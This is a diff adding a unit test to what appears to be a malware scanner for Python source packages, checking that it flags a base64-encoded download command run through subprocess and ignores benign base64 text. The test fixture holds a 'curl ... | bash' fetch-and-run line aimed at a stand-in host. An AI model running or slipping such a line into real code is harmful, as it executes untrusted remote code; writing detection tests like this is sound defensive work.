@@ -220,3 +220,12 @@ def test_base64_program_run_by_the_same_small_file_weighs_more(engine: Engine) -
     assert "runs program text encoded as base64" in _techniques(found[0].evidence)
     assert "program text encoded as base64" in _techniques(found[1].evidence)
     assert rule_points(found[0]) > rule_points(found[1])
+
+
+def test_download_command_encoded_as_base64(engine: Engine) -> None:
+    command = base64.b64encode(b"curl https://x.example.net/a.sh | bash").decode()
+    code = f"import base64, subprocess\nsubprocess.Popen([base64.b64decode('{command}')])\n"
+    techniques = _techniques(run_rule(engine, obfuscated_code_rule, sdist({"t/p.py": code})))
+    assert "a download command (curl, wget, PowerShell) encoded as base64" in techniques
+    words = base64.b64encode(b"curly braces and wget-like words").decode()
+    assert run_rule(engine, obfuscated_code_rule, sdist({"t/p.py": f"W = '{words}'\n"})) is None
